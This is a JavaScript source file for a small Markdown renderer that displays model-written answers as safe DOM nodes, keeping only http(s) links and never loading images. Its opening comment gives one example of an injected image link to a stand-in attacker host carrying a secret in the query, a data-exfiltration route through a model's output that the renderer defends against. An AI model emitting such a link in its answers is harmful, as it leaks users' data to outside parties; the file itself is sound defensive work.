/* A small, safe Markdown renderer for answers: it builds DOM nodes and never parses HTML.
 *
 * Answers are written by a model that read the user's documents, so their text may carry
 * whatever a document said — HTML, script, links to anywhere.  Every piece of text goes
 * into the page as a text node; raw HTML shows as the characters it is made of.  Links
 * are kept only for http(s) URLs and open with rel="noopener noreferrer nofollow"; images
 * are never loaded — their alt text is shown instead — so an injected
 * ![x](https://evil.example/?q=secret) requests nothing.
 *
 * Supported: headings, paragraphs (a single newline is a line break), bulleted and numbered
 * lists, block quotes, fenced and indented code blocks, horizontal rules, **bold**, *italic*,
 * `code`, [links](https://…).  Citation markers [n] / [n, m] are handed to the caller's
 * `citation` function, which returns the node to show (or null to leave the text as it is).
 */
(function () {
  "use strict";

  const gettext = window.gettext || ((s) => s);
  const ngettext = window.ngettext || ((s, p, n) => (n === 1 ? s : p));
  const interpolate = window.interpolate || ((f, a) => f.replace(/%s/g, () => String(a.shift())));
  void ngettext;

  function node(tag, className) {
    const element = document.createElement(tag);
    if (className) element.className = className;
    return element;
  }

  /** The URL when it is an absolute http(s) URL, else null (javascript:, data:, relative, …). */
  function safeHref(raw) {
    const text = String(raw || "").trim();
    if (!/^https?:\/\//i.test(text)) return null;
    try {
      const url = new URL(text);
      return url.protocol === "http:" || url.protocol === "https:" ? url.href : null;
    } catch (e) {
      return null;
    }
  }

  // Inline tokens, earliest match wins: code, image, link, citation, bold, italic.
  const INLINE = [
    { kind: "code", re: /`([^`\n]+)`/ },
    { kind: "image", re: /!\[([^\]\n]*)\]\(([^)\s]*)(?:\s+"[^"]*")?\)/ },
    { kind: "link", re: /\[([^\]\n]+)\]\(([^)\s]*)(?:\s+"[^"]*")?\)/ },
    { kind: "cite", re: /\[(\d+(?:\s*[,;]\s*\d+)*)\]/ },
    { kind: "strong", re: /\*\*(?=\S)([\s\S]*?\S)\*\*|__(?=\S)([\s\S]*?\S)__/ },
    { kind: "em", re: /\*(?=[^\s*])([^*\n]*?[^\s*])\*|(?:^|(?<=[^\w]))_(?=\S)([^_\n]*?\S)_(?![\w])/ },
  ];

  function inline(parent, text, options, depth) {
    let rest = text;
    while (rest) {
      let best = null;
      for (const token of INLINE) {
        const match = token.re.exec(rest);
        if (match && (best === null || match.index < best.match.index)) best = { token: token, match: match };
      }
      if (!best) {
        parent.appendChild(document.createTextNode(rest));
        return;
      }
      const match = best.match;
      if (match.index) parent.appendChild(document.createTextNode(rest.slice(0, match.index)));
      rest = rest.slice(match.index + match[0].length);
      const kind = best.token.kind;
      if (kind === "code") {
        const code = node("code");
        code.textContent = match[1];
        parent.appendChild(code);
      } else if (kind === "image") {
        // Never loaded: the alt text (if any) stands in for the picture.
        const alt = node("span", "md-image");
        alt.textContent = match[1] ? interpolate(gettext("[image: %s]"), [match[1]]) : gettext("[image]");
        parent.appendChild(alt);
      } else if (kind === "link") {
        const href = safeHref(match[2]);
        if (href === null || depth > 3) {
          inline(parent, match[1], options, depth + 1);
        } else {
          const link = node("a", "md-link");
          link.setAttribute("href", href);
          link.setAttribute("rel", "noopener noreferrer nofollow");
          link.setAttribute("target", "_blank");
          link.setAttribute("referrerpolicy", "no-referrer");
          inline(link, match[1], options, depth + 1);
          parent.appendChild(link);
        }
      } else if (kind === "cite") {
        const marker = options.citation ? options.citation(match[1]) : null;
        parent.appendChild(marker || document.createTextNode(match[0]));
      } else if (depth > 8) {
        parent.appendChild(document.createTextNode(match[0]));
      } else {
        const wrapper = node(kind);
        inline(wrapper, match[1] !== undefined ? match[1] : match[2], options, depth + 1);
        parent.appendChild(wrapper);
      }
    }
  }

  /** A paragraph's lines: inline Markdown, a line break between lines. */
  function lines(parent, texts, options) {
    texts.forEach(function (line, i) {
      if (i) parent.appendChild(node("br"));
      inline(parent, line, options, 0);
    });
  }

  const FENCE = /^\s{0,3}(`{3,}|~{3,})\s*([\w+-]*)\s*$/;
  const HEADING = /^\s{0,3}(#{1,6})\s+(.*?)\s*#*\s*$/;
  const RULE = /^\s{0,3}([-*_])(\s*\1){2,}\s*$/;
  const BULLET = /^(\s*)[-*+]\s+(.*)$/;
  const NUMBERED = /^(\s*)(\d{1,9})[.)]\s+(.*)$/;
  const QUOTE = /^\s{0,3}>\s?(.*)$/;
  const INDENTED = /^( {4}|\t)/;

  function startsBlock(line) {
    return FENCE.test(line) || HEADING.test(line) || RULE.test(line) || BULLET.test(line) ||
      NUMBERED.test(line) || QUOTE.test(line);
  }

  function blocks(parent, source, options, depth) {
    const all = source.replace(/\r\n?/g, "\n").split("\n");
    let i = 0;
    while (i < all.length) {
      const line = all[i];
      if (!line.trim()) { i++; continue; }
      let match;
      if ((match = FENCE.exec(line))) {
        const fence = match[1];
        const body = [];
        i++;
        while (i < all.length && !(all[i].trim().startsWith(fence[0].repeat(fence.length)) && !all[i].trim().replace(/[`~]/g, ""))) {
          body.push(all[i]);
          i++;
        }
        i++;  // the closing fence (or the end: a block still being streamed)
        const pre = node("pre", "md-code");
        const code = node("code");
        if (match[2]) code.setAttribute("data-language", match[2]);
        code.textContent = body.join("\n");
        pre.appendChild(code);
        parent.appendChild(pre);
      } else if ((match = HEADING.exec(line))) {
        // Answers sit under the page's own headings: their # starts at h3.
        const heading = node("h" + Math.min(6, match[1].length + 2), "md-heading");
        inline(heading, match[2], options, 0);
        parent.appendChild(heading);
        i++;
      } else if (RULE.test(line)) {
        parent.appendChild(node("hr"));
        i++;
      } else if (QUOTE.test(line)) {
        const quoted = [];
        while (i < all.length && (match = QUOTE.exec(all[i]))) { quoted.push(match[1]); i++; }
        const quote = node("blockquote");
        if (depth < 4) blocks(quote, quoted.join("\n"), options, depth + 1);
        else lines(quote, quoted, options);
        parent.appendChild(quote);
      } else if (BULLET.test(line) || NUMBERED.test(line)) {
        const numbered = !BULLET.test(line);
        const list = node(numbered ? "ol" : "ul");
        const first = numbered ? NUMBERED.exec(line) : null;
        if (first && first[2] !== "1") list.setAttribute("start", String(Number(first[2])));
        let item = null;
        let itemLines = [];
        const flush = function () {
          if (item) { lines(item, itemLines, options); list.appendChild(item); }
        };
        while (i < all.length && all[i].trim()) {
          const b = BULLET.exec(all[i]);
          const n = NUMBERED.exec(all[i]);
          const entry = numbered ? n : b;
          if (entry) {
            flush();
            item = node("li");
            itemLines = [numbered ? entry[3] : entry[2]];
          } else if (b || n || (!/^\s/.test(all[i]) && startsBlock(all[i]))) {
            break;  // a list of the other kind, or another block, begins
          } else {
            itemLines.push(all[i].trim());
          }
          i++;
        }
        flush();
        parent.appendChild(list);
      } else if (INDENTED.test(line) && depth === 0) {
        const body = [];
        while (i < all.length && (INDENTED.test(all[i]) || !all[i].trim())) { body.push(all[i].replace(INDENTED, "")); i++; }
        const pre = node("pre", "md-code");
        const code = node("code");
        code.textContent = body.join("\n").replace(/\n+$/, "");
        pre.appendChild(code);
        parent.appendChild(pre);
      } else {
        const paragraph = [];
        while (i < all.length && all[i].trim() && (!paragraph.length || !startsBlock(all[i]))) {
          paragraph.push(all[i].trim());
          i++;
        }
        const p = node("p");
        lines(p, paragraph, options);
        parent.appendChild(p);
      }
    }
  }

  /** The Markdown ``text`` as a DocumentFragment of safe nodes; ``options.citation(numbers)`` makes [n] markers. */
  function render(text, options) {
    const fragment = document.createDocumentFragment();
    blocks(fragment, String(text || ""), options || {}, 0);
    return fragment;
  }

  window.CairnMarkdown = { render: render, safeHref: safeHref };
})();
